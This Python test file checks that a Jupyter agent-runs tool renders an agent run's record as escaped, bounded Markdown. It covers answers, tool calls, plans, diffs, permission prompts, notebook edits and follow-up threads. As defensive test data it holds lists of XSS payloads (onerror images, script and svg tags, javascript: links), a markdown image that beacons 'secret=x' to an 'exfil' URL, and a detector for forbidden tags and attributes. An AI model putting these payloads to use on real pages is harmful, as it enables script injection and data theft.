"""The static record a notebook keeps of a run: Markdown, bounded, safe wherever it is shown."""

import copy
import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter
from nbconvert.filters.markdown import markdown2html
from nbformat.v4 import new_code_cell, new_notebook, new_output

from jupyter_agentruns.record import (
    ANSWER_LIMIT,
    DIFF_LIMIT,
    DIFF_LINES,
    FOLLOW_UPS_SHOWN,
    PROMPT_LIMIT,
    THINKING_LIMIT,
    THREAD_ANSWERS_LIMIT,
    run_markdown,
)

from conftest import demo_input, submit, wait_run
from servers import ServerProcess, wait_status


def run_object(**changes):
    run = {
        "run_id": "run_abc", "agent": "demo", "status": "succeeded", "session": None,
        "metadata": {}, "input": {}, "retry_of": None, "created_at": "2026-11-30T10:00:00.000Z",
        "started_at": "2026-11-30T10:00:00.000Z", "finished_at": "2026-11-30T10:00:12.500Z",
        "last_seq": 9, "first_seq": 1, "output": None, "error": None, "cancel": None,
        "snapshot": {
            "messages": [{"id": "m1", "role": "assistant",
                          "text": "## Weather\n\n| city | °C |\n|---|---|\n| Shanghai | 21 |\n",
                          "done": True}],
            "tools": [{"call_id": "c1", "name": "get_weather", "args": {"city": "Shanghai"},
                       "status": "completed", "result": {"c": 21}}],
            "progress": None, "usage": {"input_tokens": 12, "output_tokens": 40},
        },
    }  # fmt: skip
    run.update(changes)
    return run


def test_a_finished_run_shows_agent_status_tools_answer_usage_and_id():
    record = run_markdown(run_object())
    assert record.startswith("**Agent run** `demo` · **succeeded** · 12.5 s · 12 tokens in, 40 out")
    assert '- tool `get_weather` `{"city": "Shanghai"}` → completed' in record
    assert "| Shanghai | 21 |" in record  # the answer stays Markdown
    assert "run `run_abc`" in record


def test_a_failure_a_cancel_an_interruption_and_a_live_run_say_so():
    failed = run_markdown(
        run_object(status="failed", error={"type": "upstream_timeout", "message": "no answer"})
    )
    assert "> **Failed** (upstream_timeout): no answer" in failed
    cancelled = run_markdown(run_object(status="cancelled", cancel={"reason": "changed my mind"}))
    assert "> **Cancelled**: changed my mind" in cancelled
    assert "**Interrupted**" in run_markdown(run_object(status="interrupted"))
    live = run_markdown(run_object(status="running", finished_at=None))
    assert "Still running when this was saved (9 events)" in live


def test_a_run_taken_over_after_its_server_stopped_says_so():
    assert "resumed" not in run_markdown(run_object(attempt=1))
    assert ", resumed 1 time after its server stopped*" in run_markdown(run_object(attempt=2))
    assert ", resumed 2 times after its server stopped*" in run_markdown(run_object(attempt=3))


def test_a_huge_answer_is_cut_with_a_note_naming_the_run():
    text = "word " * 100_000
    record = run_markdown(
        run_object(
            snapshot={
                "messages": [{"id": "m1", "text": text, "done": True}],
                "tools": [],
                "progress": None,
                "usage": None,
            }
        )
    )
    assert len(record) < ANSWER_LIMIT + 1000
    assert (
        "the answer goes on" in record and "500,000 characters" in record and "`run_abc`" in record
    )


def answered(text):
    """A run whose answer is ``text``."""
    return run_object(
        snapshot={
            "messages": [{"id": "m1", "text": text, "done": True}],
            "tools": [],
            "progress": None,
            "usage": None,
        }
    )


def test_html_in_a_model_answer_stays_text_but_code_blocks_keep_their_brackets():
    answer = (
        'See <img src=x onerror="alert(1)"> and `a<b` and `x = 1`\n'
        "```html\n<b>bold</b>\n```\n<script>alert(2)</script>"
    )
    record = run_markdown(answered(answer))
    assert "<img" not in record and "<script" not in record and "<b>bold</b>" in record
    html = markdown2html(record)
    assert unsafe(html) == []
    shown = text_of(html)
    assert 'See <img src=x onerror="alert(1)"> and `a<b` and x = 1' in shown
    assert "<b>bold</b>" in shown and "<script>alert(2)</script>" in shown


class Rendered(HTMLParser):
    """The elements of rendered HTML, and its text."""

    def __init__(self):
        super().__init__()
        self.elements, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parsed(html):
    page = Rendered()
    page.feed(html)
    page.close()
    return page


def text_of(html):
    return "".join(parsed(html).text)


# What rendered model text may never hold: an element that runs script or
# fetches a URL, an event handler, an attribute that loads something, a script link.
FORBIDDEN_TAGS = {
    "img", "script", "iframe", "svg", "math", "style", "object", "embed", "link", "meta",
    "base", "form", "video", "audio", "source", "picture", "frame", "frameset", "template",
}  # fmt: skip
LOADING_ATTRS = {"src", "srcset", "background", "poster", "action", "formaction", "xlink:href"}


def unsafe(html):
    found = []
    for tag, attrs in parsed(html).elements:
        if tag in FORBIDDEN_TAGS:
            found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in LOADING_ATTRS:
                found.append(f"{tag} {name}")
            if name == "href" and value is not None:
                href = value.strip().replace("\t", "").replace("\n", "").replace("\r", "")
                if urlsplit(href).scheme.lower() in ("javascript", "vbscript", "data"):
                    found.append(f"{tag} href={value}")
    return found


HOSTILE = [
    '<img src=x onerror="alert(1)">',
    "<script>alert(2)</script><iframe src=http://127.0.0.1:9/></iframe>",
    "<svg onload=alert(3)> <a href=javascript:alert(4)>x</a>",
    "![i](http://127.0.0.1:9/exfil?secret=x) [a](javascript:alert(5))",
    "`x` <img src=y onerror=alert(6)> ` and \\`<img src=y onerror=alert(7)>`",
    "```\n<img src=z onerror=alert(8)>\n```\n\n$$\n<img src=w onerror=alert(9)>\n$$",
    "[b](java&#115;cript:alert(10)) [c](&amp;#106;avascript:alert(11))",
    "```mermaid\n<img src=v onerror=alert(12)>\n```",
    "| a |\n|---|\n| `x|<img src=u onerror=alert(13)>` |",
    "x\r```\r\n~~~\n```\n<img src=t onerror=alert(14)>\n~~~",
    "[a](x`y) <img src=s onerror=alert(15)> `",
    "a `b\nc `<img src=r onerror=alert(16)>` d",
    "$a `b$ <img src=q onerror=alert(17)> `",
]


def hostile_run(text, **changes):
    """A run with ``text`` in every field an agent or a model could have written."""
    run = run_object(
        agent=text, run_id=text, retry_of=text, created_at=text, attempt=2,
        status="failed", error={"type": text, "message": text}, output={"answer": text},
        snapshot={
            "messages": [{"id": "m1", "role": "assistant", "text": text, "done": True}],
            "tools": [
                {"call_id": "c1", "name": text, "args": {"q": text}, "status": "failed",
                 "error": {"type": "unknown_tool", "message": f"no tool named {text}"}},
                {"call_id": "c2", "name": "lookup", "args": [text], "status": text, "result": text},
            ],
            "inputs": [
                {"request_id": "r1", "title": text, "status": "resolved", "choice": text, "by": text},
                {"request_id": "r2", "title": text, "status": "open", "choices": [text, "no"]},
                {"request_id": "r3", "kind": "permission", "title": text, "status": "open",
                 "choices": ["a1", text], "details": {"options": [
                     {"optionId": "a1", "name": text, "kind": "allow_once"},
                     {"optionId": text, "name": text, "kind": text}]}},
                {"request_id": "r4", "kind": "permission", "title": text, "status": "resolved",
                 "choices": ["a1"], "choice": "a1", "by": text,
                 "details": {"options": [{"optionId": "a1", "name": text}]}},
            ],
            "reasoning": text,
            "plan": [{"content": text, "status": "completed", "priority": text},
                     {"content": text, "status": "in_progress"}],
            "progress": None,
            "usage": {"input_tokens": text, "output_tokens": [text], "cost": text},
        },
    )  # fmt: skip
    run["snapshot"]["tools"] += [
        {"call_id": "c3", "name": text, "args": {}, "status": "completed", "result": None,
         "kind": text, "title": text,
         "content": [{"type": "text", "text": text},
                     {"type": "diff", "path": text, "old_text": text, "new_text": f"{text}\n{text}"},
                     {"type": "diff", "path": text, "old_text": None, "new_text": text}]},
    ]  # fmt: skip
    run.update(changes)
    return run


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_run_holds_renders_in_nbconvert_as_text_never_as_markup(text):
    for run in (
        hostile_run(text),
        hostile_run(text, status="cancelled", cancel={"reason": text}),
        hostile_run(text, status="running", finished_at=None),
        hostile_run(text, status="succeeded", snapshot={"messages": [], "tools": []}),
    ):
        html = markdown2html(run_markdown(run))
        assert unsafe(html) == [], html


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_answer_stays_text_where_code_html_math_and_tables_meet(text):
    html = markdown2html(run_markdown(answered(text)))
    assert unsafe(html) == [], html


def test_a_failure_and_a_cancel_show_their_text_exactly():
    message = 'unknown tool <img src=x onerror="alert(1)"> *not bold* $x$ \\ [a](b) R&D_1 _x_'
    failed = text_of(markdown2html(run_markdown(hostile_run(message))))
    assert f"Failed ({message}): {message}" in failed
    assert f"failed: no tool named {message}" in failed
    cancelled = hostile_run(message, status="cancelled", cancel={"reason": message})
    assert f"Cancelled: {message}" in text_of(markdown2html(run_markdown(cancelled)))


def test_an_image_in_the_answer_is_a_link_and_its_markdown_stays_markdown():
    answer = (
        "## Rain\n\n- **Mon**: 12 mm\n- *Tue*: `dry`\n\n| day | mm |\n|---|---|\n| Mon | 12 |\n\n"
        "```python\nif a < b and c > d:\n    print('<ok>')\n```\n\n"
        "Chart: ![rain by day](http://127.0.0.1:9/exfil?secret=x), "
        "source [the portal](https://example.org/rain?a=1&b=2), R&D and $5 vs $6."
    )
    html = markdown2html(run_markdown(answered(answer)))
    assert unsafe(html) == []
    elements = parsed(html).elements
    tags = [tag for tag, _ in elements]
    assert {"h2", "ul", "li", "strong", "em", "code", "table", "td", "pre"} <= set(tags)
    links = [dict(attrs)["href"] for tag, attrs in elements if tag == "a"]
    links = [href for href in links if not href.startswith("#")]  # nbconvert's heading anchors
    assert links == ["http://127.0.0.1:9/exfil?secret=x", "https://example.org/rain?a=1&b=2"]
    shown = text_of(html)
    assert "if a < b and c > d:\n    print('<ok>')" in shown
    assert "Chart: !rain by day, source the portal, R&D and $5 vs $6." in shown


FRAGMENTS = [
    "<img src=x onerror=alert(1)>", "<", ">", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    ",
    "\t", "\r", "\\", "&", "#106;", "&#106;", "&colon;", "javascript", ":", "![", "[", "]",
    "(", ")", "$", "$$", "\\begin{a}", "\\end{a}", "\\\\[", "\\\\]", "|", "|---|", "- ",
    "> ", "1. ", '"', "'", "*", "_", "mermaid", "x", "http://h/e", "<!--", "<script>", "[r]: ",
    "[r]", "<svg/onload=alert(2)>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_no_model_text_becomes_markup_in_nbconvert(text):
    html = markdown2html(run_markdown(hostile_run(text)))
    assert unsafe(html) == [], html


def test_nbconverts_html_export_of_a_notebook_shows_a_hostile_run_as_text():
    """The whole export, as ``jupyter nbconvert --to html`` makes it, of a run's saved output."""
    run = hostile_run('<img src=x onerror="alert(1)"> ![i](http://127.0.0.1:9/exfil?secret=x)')
    output = new_output(
        "display_data",
        data={"text/plain": "Run(...)", "text/markdown": run_markdown(run)},
    )
    notebook = new_notebook(cells=[new_code_cell("submit(...)", outputs=[output])])
    html, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(copy.deepcopy(notebook)))
    start = html.index('data-mime-type="text/markdown"')
    shown = html[start : html.index("</div>\n</div>", start)]
    assert unsafe(shown) == [] and "&lt;img src=x onerror=" in shown
    assert 'href="http://127.0.0.1:9/exfil?secret=x"' in shown


def acp_run(**snapshot):
    """A coding agent's run: the snapshot of the ``acp_turn`` test vector, with ``snapshot``'s fields."""
    vector = json.loads((Path(__file__).parent / "vectors" / "acp_turn.json").read_text())
    return run_object(snapshot={**vector["snapshot"], **snapshot})


def test_thinking_the_plan_tool_steps_and_diffs_read_in_nbconverts_html():
    record = run_markdown(acp_run())
    assert "> *Thinking*: The user wants the mean. Read the file first." in record
    assert "**Plan** (2 of 2 done)" in record
    assert "* [x] Read data.csv *(high priority)*" in record
    assert "- read: Read data.csv → completed" in record
    assert "- edit: Edit plot.py → completed" in record
    assert "```diff\n--- plot.py\n+++ plot.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n```" in record
    html = markdown2html(record)
    assert unsafe(html) == []
    page = parsed(html)
    boxes = [dict(attrs) for tag, attrs in page.elements if tag == "input"]
    assert [box.get("type") for box in boxes] == ["checkbox", "checkbox"]  # the plan, ticked
    assert all("checked" in box and "disabled" in box for box in boxes)
    shown = text_of(html)
    assert "Thinking: The user wants the mean." in shown
    assert "--- plot.py\n+++ plot.py\n@@ -1 +1 @@\n-x = 1\n+x = 2" in shown
    assert "read: Read data.csv → completed" in shown


def test_a_plan_in_progress_says_so_and_a_new_file_is_a_diff_from_nothing():
    plan = [
        {"content": "Read data.csv", "status": "completed"},
        {"content": "Plot the mean", "status": "in_progress", "priority": "medium"},
        {"content": "Write it up", "status": "pending"},
    ]
    tool = {
        "call_id": "c1", "name": "write", "args": {}, "status": "completed", "result": None,
        "kind": "edit", "title": "Write notes.md",
        "content": [{"type": "diff", "path": "notes.md", "old_text": None, "new_text": "# Notes\n"}],
    }  # fmt: skip
    record = run_markdown(acp_run(plan=plan, tools=[tool]))
    assert "**Plan** (1 of 3 done)" in record
    assert "* [ ] Plot the mean *(in progress, medium priority)*" in record
    assert "* [ ] Write it up\n" in record
    assert "--- /dev/null\n+++ notes.md\n@@ -0,0 +1 @@\n+# Notes" in record


def test_a_permission_is_asked_and_answered_by_the_names_of_the_agents_options():
    options = [
        {"optionId": "allow-1", "name": "Allow once", "kind": "allow_once"},
        {"optionId": "reject-1", "name": "Reject", "kind": "reject_once"},
    ]
    question = {
        "request_id": "in_1", "kind": "permission", "title": "Edit plot.py?",
        "details": {"options": options, "tool": {"title": "Edit plot.py", "kind": "edit"}},
        "choices": ["allow-1", "reject-1"],
    }  # fmt: skip
    answered = {**question, "status": "resolved", "choice": "allow-1", "by": "alice"}
    record = run_markdown(
        acp_run(inputs=[answered, {**question, "request_id": "in_2", "status": "open"}])
    )
    assert "- asked: Edit plot.py? → **Allow once** by alice" in record
    assert "- asked: Edit plot.py? → *waiting for an answer* (Allow once / Reject)" in record


def test_the_thinking_and_the_diffs_are_bounded_whatever_the_run():
    lines = ("z" * 250 + "\n") * 1000
    tools = [
        {"call_id": f"c{i}", "name": "edit", "args": {}, "status": "completed", "result": None,
         "kind": "edit", "title": f"Edit file {i}",
         "content": [{"type": "diff", "path": f"big{i}.py", "old_text": None, "new_text": lines}]}
        for i in range(20)
    ]  # fmt: skip
    record = run_markdown(acp_run(reasoning="word " * 10_000, tools=tools))
    thinking = next(line for line in record.splitlines() if line.startswith("> *Thinking*"))
    assert len(thinking) < THINKING_LIMIT + 30 and thinking.endswith("…")
    # 1,003 lines: the file's two, the hunk's, then the file's 1,000.
    assert f"… {1003 - DIFF_LINES:,} more lines\n```" in record
    assert "- edit: Edit file 19 → completed\n  *the diff of `big19.py` is in the run*" in record
    assert len(record) < DIFF_LIMIT + 10_000
    assert unsafe(markdown2html(record)) == []


def test_an_agent_that_streams_no_text_shows_its_output():
    record = run_markdown(
        run_object(
            output={"answer": 42},
            snapshot={"messages": [], "tools": [], "progress": None, "usage": None},
        )
    )
    assert '{"answer": 42}' in record


async def test_the_server_answers_a_runs_record_as_markdown(api):
    run = await wait_run(api, (await submit(api, input=demo_input(chunks=12))).json()["run_id"])
    response = await api.get(f"runs/{run['run_id']}", headers={"Accept": "text/markdown"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/markdown")
    assert response.text == run_markdown(run)
    assert "Demo answer about weather in Shanghai" in response.text


@pytest.mark.parametrize("accept", ["text/markdown", "application/json"])
async def test_the_record_of_another_users_or_no_run_is_a_json_404(api, accept):
    response = await api.get("runs/run_nope", headers={"Accept": accept})
    assert response.status_code == 404 and response.json()["error"] == "run_not_found"


def an_edit(edit_id, op, index, status, cell_id="c-1", notebook="work/a.ipynb"):
    return {
        "edit_id": edit_id, "notebook": notebook, "op": op, "cell_id": cell_id,
        "index": index, "before": None, "after": "x = 1", "status": status,
    }  # fmt: skip


def test_the_record_lists_the_notebook_edits_by_operation_cell_and_status():
    edits = [
        an_edit("ed_1", "insert", 2, "applied", cell_id="9f1c"),
        an_edit("ed_2", "edit", 0, "undone"),
        an_edit("ed_3", "delete", 4, "conflict", cell_id="c-5"),
        an_edit("ed_4", "outputs", None, "applied", cell_id=None),
    ]
    record = run_markdown(run_object(snapshot={**run_object()["snapshot"], "edits": edits}))
    assert (
        "**Notebook edits** (4, 1 undone)\n\n"
        "- Inserted cell 3 (`9f1c`) → applied\n"
        "- Edited cell 1 (`c-1`) → undone\n"
        "- Deleted cell 5 (`c-5`) → conflict: not made, the cell had changed\n"
        "- Ran a cell → applied\n"
    ) in record
    # A run without edits says nothing of them.
    assert "Notebook edits" not in run_markdown(run_object())


def test_edits_of_several_notebooks_name_them_and_many_edits_are_bounded():
    edits = [an_edit("ed_a", "insert", 0, "applied", notebook="one.ipynb")] + [
        an_edit(f"ed_{i}", "edit", i, "applied", notebook="two.ipynb") for i in range(60)
    ]
    record = run_markdown(run_object(snapshot={**run_object()["snapshot"], "edits": edits}))
    assert "- Inserted cell 1 (`c-1`) of `one.ipynb` → applied" in record
    assert "- Edited cell 1 (`c-1`) of `two.ipynb` → applied" in record
    assert "- … and 11 more edits" in record
    assert record.count("→ applied") == 50


def test_an_agents_cell_id_and_notebook_in_the_record_stay_text():
    hostile = '<img src="https://evil.example/?q=1">'
    edits = [
        an_edit("ed_1", "insert", 0, "applied", cell_id=hostile, notebook="a.ipynb"),
        an_edit("ed_2", "edit", 1, "<b>applied</b>", notebook="javascript:alert(1)"),
    ]
    html = markdown2html(
        run_markdown(run_object(snapshot={**run_object()["snapshot"], "edits": edits}))
    )
    assert unsafe(html) == []
    assert hostile in text_of(html)


@pytest.mark.timeout(120)
def test_a_saved_record_says_which_cells_the_agent_changed_and_which_it_took_back(tmp_path):
    server = ServerProcess(
        tmp_path / "home",
        tmp_path / "agentruns.sqlite3",
        {"agents": {"nb_editor": "agents_for_tests:notebook_editor"}},
    ).start()
    try:
        with server.client() as http:
            cells = [{"cell_type": "code", "id": "c-1", "metadata": {}, "execution_count": None,
                      "source": "x = 1", "outputs": []}]  # fmt: skip
            notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
            saved = http.put(
                server.url + "api/contents/a.ipynb",
                json={"type": "notebook", "content": notebook},
            )
            assert saved.status_code == 201, saved.text
            calls = [
                ["insert_cell", {"source": "y = 2", "after": "c-1"}],
                ["edit_cell", {"cell_id": "c-1", "source": "x = 3"}],
            ]
            submitted = http.post(
                "runs",
                json={"agent": "nb_editor", "input": {"calls": calls}, "session": "a.ipynb",
                      "metadata": {"kernel_id": "no-kernel"}},
            )  # fmt: skip
            run = wait_status(http, submitted.json()["run_id"], ["succeeded", "failed"])
            inserted, _ = run["snapshot"]["edits"]
            undone = http.post(f"runs/{run['run_id']}/edits/{inserted['edit_id']}/undo")
            assert undone.status_code == 200, undone.text
            record = http.get(f"runs/{run['run_id']}", headers={"Accept": "text/markdown"}).text
    finally:
        server.kill()
    assert "**Notebook edits** (2, 1 undone)" in record
    assert f"- Inserted cell 2 (`{inserted['cell_id']}`) → undone" in record
    assert "- Edited cell 1 (`c-1`) → applied" in record


def follow_up(number, answer, *, prompt=None, **changes):
    """The ``number``-th follow-up of ``run_abc``: ``prompt`` sent from its reply box, ``answer`` its answer."""
    run = answered(answer)
    run.update(
        run_id=f"run_f{number:02}",
        created_at=f"2026-11-30T10:{number:02}:00.000Z",
        metadata={"follow_up_of": "run_abc"},
        input={"prompt": f"question {number}" if prompt is None else prompt},
        **changes,
    )
    return run


def test_a_thread_shows_each_follow_up_as_the_persons_message_then_the_answer_in_order():
    # Given in any order, shown in the order they were sent.
    record = run_markdown(
        run_object(), [follow_up(2, "answer **two**"), follow_up(1, "answer *one*")]
    )
    order = [
        "| Shanghai | 21 |",  # the first run's answer
        "*run `run_abc`",
        "**Follow-ups** (2)",
        "**You** · follow-up 1",
        "> question 1",
        "answer *one*",
        "*run `run_f01`",
        "**You** · follow-up 2",
        "> question 2",
        "answer **two**",
        "*run `run_f02`",
    ]
    places = [record.index(piece) for piece in order]
    assert places == sorted(places)
    assert record.count("question 1") == 1  # a follow-up's headline does not repeat its prompt
    shown = text_of(markdown2html(record))
    assert "question 1" in shown and "answer one" in shown and "answer two" in shown


def test_a_run_with_no_follow_ups_has_the_record_it_always_had():
    assert run_markdown(run_object(), []) == run_markdown(run_object())
    assert "Follow-ups" not in run_markdown(run_object())


def test_a_follow_up_that_failed_or_is_still_going_says_so_in_the_thread():
    failed = follow_up(1, "", status="failed", error={"type": "agent_error", "message": "boom"})
    live = follow_up(2, "partial", status="running", finished_at=None)
    record = run_markdown(run_object(), [failed, live])
    assert "> **Failed** (agent_error): boom" in record
    assert "Still running when this was saved" in record


def test_a_long_thread_is_bounded_and_says_how_many_follow_ups_are_not_shown():
    follow_ups = [
        follow_up(number, "word " * 100_000, prompt="ask " * 10_000) for number in range(1, 31)
    ]
    record = run_markdown(run_object(), follow_ups)
    assert record.count("**You** · follow-up") == FOLLOW_UPS_SHOWN
    assert "… and 10 more follow-ups" in record and "`run_abc`" in record
    prompts = PROMPT_LIMIT * FOLLOW_UPS_SHOWN
    assert len(record) < ANSWER_LIMIT + THREAD_ANSWERS_LIMIT + prompts + 20_000
    # Once the thread's answers had their share, a follow-up names the run its answer is in.
    assert "*The answer is in the run `run_f20` on the Jupyter server.*" in record
    assert "ask " * 10 in record and "ask " * 600 not in record


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_follow_up_prompt_or_answer_renders_as_text_never_as_markup(text):
    follow_ups = [
        follow_up(1, text, prompt=text),
        {**hostile_run(text), "metadata": {"follow_up_of": "run_abc"}},
        follow_up(3, "after", prompt=f"{text}\n\n```\nunclosed"),
    ]
    record = run_markdown(run_object(), follow_ups)
    html = markdown2html(record)
    assert unsafe(html) == [], html
    # Nothing a prompt holds takes in what follows it.
    assert "<p>after</p>" in html


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_no_follow_up_prompt_becomes_markup_in_nbconvert(text):
    html = markdown2html(run_markdown(run_object(), [follow_up(1, "answer", prompt=text)]))
    assert unsafe(html) == [], html


async def test_the_server_record_of_a_run_holds_its_follow_ups_in_order(api):
    session = "notes/thread.ipynb"
    first = await submit(api, input=demo_input(prompt="first question"), session=session)
    root = await wait_run(api, first.json()["run_id"])
    follow_ups = []
    for prompt in ("second question", "third question"):
        sent = await submit(
            api,
            input=demo_input(prompt=prompt),
            session=session,
            metadata={"follow_up_of": root["run_id"]},
        )
        follow_ups.append(await wait_run(api, sent.json()["run_id"]))
    # Not of this thread: another run of the session, a follow-up of another run.
    await wait_run(
        api, (await submit(api, input=demo_input(prompt="aside"), session=session)).json()["run_id"]
    )
    await wait_run(
        api,
        (
            await submit(
                api,
                input=demo_input(prompt="elsewhere"),
                session=session,
                metadata={"follow_up_of": "run_other"},
            )
        ).json()["run_id"],
    )
    answers = [
        await api.get(f"runs/{root['run_id']}", headers={"Accept": "text/markdown"})
        for _ in range(2)
    ]
    assert answers[0].text == answers[1].text == run_markdown(root, follow_ups)
    record = answers[0].text
    assert record.index("first question") < record.index("second question")
    assert record.index("second question") < record.index("third question")
    assert "aside" not in record and "elsewhere" not in record
    # A follow-up's own record is its run alone.
    alone = await api.get(f"runs/{follow_ups[0]['run_id']}", headers={"Accept": "text/markdown"})
    assert alone.text == run_markdown(follow_ups[0])
